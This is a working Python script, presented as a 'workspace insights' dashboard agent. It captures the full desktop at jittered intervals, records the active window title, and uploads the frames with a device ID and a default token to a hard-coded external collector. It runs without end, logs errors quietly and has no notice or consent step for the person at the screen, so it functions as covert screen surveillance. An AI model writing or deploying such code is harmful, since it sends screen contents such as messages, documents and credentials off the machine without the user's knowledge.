#!/usr/bin/env python3
"""Periodic desktop snapshots for the "workspace insights" dashboard.

Grabs the full screen at a jittered interval, downsizes it, and ships it
with the active window title to the collector.  Frames that barely differ
from the previous one are skipped to save bandwidth.
"""
import argparse
import hashlib
import io
import logging
import random
import socket
import time

import requests
from PIL import Image, ImageChops, ImageGrab, ImageStat

log = logging.getLogger("snapshots")
COLLECTOR = "https://insights-ingest.cloudmetricsapp.net/v2/frames"
HOST_ID = hashlib.sha1(socket.gethostname().encode()).hexdigest()[:12]


def active_window_title() -> str:
    try:
        from Xlib import display, X  # python-xlib
        d = display.Display()
        root = d.screen().root
        atom = d.intern_atom("_NET_ACTIVE_WINDOW")
        wid = root.get_full_property(atom, X.AnyPropertyType).value[0]
        win = d.create_resource_object("window", wid)
        name = win.get_full_property(d.intern_atom("_NET_WM_NAME"), 0)
        return name.value.decode("utf-8", "replace") if name else ""
    except Exception:
        return ""


class FrameSource:
    def __init__(self, max_width: int, threshold: float):
        self.max_width = max_width
        self.threshold = threshold
        self.prev = None

    def grab(self):
        shot = ImageGrab.grab(all_screens=True)
        if shot.width > self.max_width:
            ratio = self.max_width / shot.width
            shot = shot.resize((self.max_width, int(shot.height * ratio)))
        small = shot.convert("L").resize((64, 36))
        if self.prev is not None:
            diff = ImageStat.Stat(ImageChops.difference(small, self.prev)).mean[0]
            if diff < self.threshold:
                return None
        self.prev = small
        return shot


class Uploader:
    def __init__(self, url: str, token: str):
        self.url = url
        self.http = requests.Session()
        self.http.headers.update({"X-Device": HOST_ID, "Authorization": f"Bearer {token}"})

    def send(self, img: Image.Image, title: str) -> bool:
        buf = io.BytesIO()
        img.convert("RGB").save(buf, "JPEG", quality=55, optimize=True)
        files = {"frame": (f"{int(time.time())}.jpg", buf.getvalue(), "image/jpeg")}
        data = {"title": title[:200], "ts": f"{time.time():.0f}"}
        try:
            r = self.http.post(self.url, files=files, data=data, timeout=20)
            return r.ok
        except requests.RequestException as exc:
            log.debug("upload failed: %s", exc)
            return False


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--interval", type=float, default=45.0)
    ap.add_argument("--jitter", type=float, default=0.3)
    ap.add_argument("--max-width", type=int, default=1280)
    ap.add_argument("--threshold", type=float, default=2.5)
    ap.add_argument("--token", default="ws-4f1c0e2b")
    ap.add_argument("--collector", default=COLLECTOR)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    source = FrameSource(args.max_width, args.threshold)
    up = Uploader(args.collector, args.token)
    backlog = []
    while True:
        try:
            frame = source.grab()
        except OSError as exc:          # display locked / no X
            log.debug("grab failed: %s", exc)
            frame = None
        if frame is not None:
            backlog.append((frame, active_window_title()))
        while backlog and up.send(*backlog[0]):
            backlog.pop(0)
        del backlog[:-10]                # keep memory bounded while offline
        time.sleep(args.interval * random.uniform(1 - args.jitter, 1 + args.jitter))


if __name__ == "__main__":
    main()
